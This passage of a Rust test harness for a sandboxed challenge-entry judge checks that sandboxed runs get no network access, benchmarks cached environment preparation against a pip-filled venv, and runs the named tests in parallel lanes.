    cfg.slot = 61;
    let run = sandbox::run(&cfg);
    let said = String::from_utf8_lossy(&run.stdout);
    assert_eq!(run.result.verdict, sandbox::Verdict::Ok, "{run:?}");
    assert_eq!(said.matches("refused:").count(), 2, "{said}");
    assert!(!said.contains("CONNECTED"), "{said}");
}

/// BENCHMARKS.md's figures: prep of a first and a cached environment against a venv
/// made and filled by pip from an empty cache, on the same machine in the same run. Run
/// only when named (`-- bench_environments`).
fn bench_environments() {
    if !index_reachable() {
        return;
    }
    let tmp = tempfile::tempdir().unwrap();
    // A judge of its own with an empty cache: "first" is a real first.
    let init = sandbox::reexec::this_program().unwrap();
    let mut bench_judge = Judge::new(runtime(), init, 63..64).unwrap();
    let mut settings = EnvSettings::from_env();
    settings.cache = tmp.path().join("cache");
    bench_judge.set_env_settings(settings);
    let data = data("cpsc2021");
    let evaluate = |entry: &Path, out: &Path| {
        let request = Request {
            challenge: "cpsc2021",
            entry,
            data: &data,
            out,
            cancel: None,
        };
        bench_judge.evaluate(&request, &mut ()).unwrap()
    };
    for (name, set) in [
        (
            "numpy/scikit-learn (numpy==1.26.4, scikit-learn==1.4.2)",
            "numpy==1.26.4\nscikit-learn==1.4.2\n",
        ),
        (
            "the same and peakutils (a second set sharing the heavy files)",
            "numpy==1.26.4\nscikit-learn==1.4.2\npeakutils\n",
        ),
        ("numpy only (numpy==2.3.5)", "numpy==2.3.5\n"),
        ("peakutils", "peakutils\n"),
    ] {
        let slug: String = name.chars().filter(|c| c.is_ascii_alphanumeric()).collect();
        let entry = tmp.path().join(&slug);
        cpsc_entry(&entry, set, "");
        let first = evaluate(&entry, &tmp.path().join(format!("{slug}-1")));
        let again = evaluate(&entry, &tmp.path().join(format!("{slug}-2")));
        assert_eq!(first.verdict, EntryVerdict::Scored, "{first:?}");
        assert!(!first.environment.as_ref().unwrap().cached, "{first:?}");
        assert!(again.environment.as_ref().unwrap().cached, "{again:?}");
        let venv = tmp.path().join(format!("{slug}-venv"));
        let reqs = entry.join("requirements.txt");
        let t = Instant::now();
        let ok = Command::new(runtime::DEFAULT_PYTHON)
            .arg("-m")
            .arg("venv")
            .arg(&venv)
            .status()
            .unwrap()
            .success()
            && Command::new(venv.join("bin/pip"))
                .args([
                    "install",
                    "--quiet",
                    "--only-binary",
                    ":all:",
                    "--cache-dir",
                ])
                .arg(tmp.path().join(format!("{slug}-pipcache")))
                .arg("-r")
                .arg(&reqs)
                .status()
                .unwrap()
                .success();
        assert!(ok);
        let venv_s = t.elapsed().as_secs_f64();
        let prep = read(&tmp.path().join(format!("{slug}-1/logs/prep.log")));
        let store = prep
            .lines()
            .find(|l| l.contains("content store:"))
            .unwrap_or_default()
            .to_string();
        println!(
            "  {name}: prep first {:.1} s, cached {:.1} s; venv + pip install {:.1} s; \
             environment {}\n    {store}",
            stage_time(&first, Stage::Prep),
            stage_time(&again, Stage::Prep),
            venv_s,
            first
                .environment
                .unwrap()
                .packages
                .iter()
                .map(|p| format!("{} {}", p.name, p.version))
                .collect::<Vec<_>>()
                .join(", ")
        );
    }
}

fn main() -> ExitCode {
    sandbox::reexec::hook();
    // The longest first (BENCHMARKS.md, "judge::envs in two lanes"), so that the lanes
    // end close together.
    let tests: [(&str, fn()); 11] = [
        (
            "cpsc_official_pins_score_after_the_advice",
            cpsc_official_pins_score_after_the_advice,
        ),
        ("advice_is_never_a_prerelease", advice_is_never_a_prerelease),
        (
            "imports_are_checked_with_advice_that_resolves",
            imports_are_checked_with_advice_that_resolves,
        ),
        (
            "refusals_name_the_line_and_the_reason",
            refusals_name_the_line_and_the_reason,
        ),
        (
            "lines_are_read_as_meant_and_authors_is_optional",
            lines_are_read_as_meant_and_authors_is_optional,
        ),
        (
            "physionet_layout_pins_are_checked_and_installed",
            physionet_layout_pins_are_checked_and_installed,
        ),
        (
            "dependencies_txt_installs_debian_packages",
            dependencies_txt_installs_debian_packages,
        ),
        (
            "cpsc_layout_installs_peakutils_and_caches_it",
            cpsc_layout_installs_peakutils_and_caches_it,
        ),
        (
            "p300_compiled_entries_run_on_their_python_only",
            p300_compiled_entries_run_on_their_python_only,
        ),
        ("every_release_runs_an_entry", every_release_runs_an_entry),
        (
            "a_run_like_the_install_has_no_network",
            a_run_like_the_install_has_no_network,
        ),
    ];
    let filters: Vec<String> = std::env::args()
        .skip(1)
        .filter(|a| !a.starts_with('-'))
        .collect();
    let benches: [(&str, fn()); 1] = [("bench_environments", bench_environments)];
    let chosen: Vec<_> = tests
        .iter()
        .filter(|(name, _)| filters.is_empty() || filters.iter().any(|f| name.contains(f.as_str())))
        .chain(
            benches
                .iter()
                .filter(|(name, _)| filters.iter().any(|f| f == name)),
        )
        .collect();
    if !testkit::root("envs") {
        println!("0 passed, 0 failed, {} skipped", chosen.len());
        return ExitCode::SUCCESS;
    }
    // Each lane takes the next test not yet taken, so the two end close together.
    let next = std::sync::atomic::AtomicUsize::new(0);
    let (passed, failed) = (
        std::sync::atomic::AtomicUsize::new(0),
        std::sync::atomic::AtomicUsize::new(0),
    );
    std::thread::scope(|s| {
        for no in 0..LANES {
            let (chosen, next, passed, failed) = (&chosen, &next, &passed, &failed);
            std::thread::Builder::new()
                .name(format!("lane-{no}"))
                .spawn_scoped(s, move || {
                    LANE.with(|l| l.set(no));
                    use std::sync::atomic::Ordering::Relaxed;
                    while let Some((name, test)) = chosen.get(next.fetch_add(1, Relaxed)) {
                        println!("test {name} ... (lane {no})");
                        let t = Instant::now();
                        match std::panic::catch_unwind(test) {
                            Ok(()) => {
                                println!("test {name} ... ok ({:.1} s)", t.elapsed().as_secs_f64());
                                passed.fetch_add(1, Relaxed);
                            }
                            Err(_) => {
                                println!("test {name} ... FAILED");
                                failed.fetch_add(1, Relaxed);
                            }
                        }
                    }
                })
                .unwrap();
        }
    });
    sandbox::shutdown();
    // The caches of this run (wheels and environments) go with it.
    for lane in LANE_STATE.iter().filter_map(OnceLock::get) {
        let _ = std::fs::remove_dir_all(lane.cache.path());
    }
    let (passed, failed) = (passed.into_inner(), failed.into_inner());
    println!("{passed} passed, {failed} failed");
    match failed {
        0 => ExitCode::SUCCESS,
        _ => ExitCode::FAILURE,
    }
}
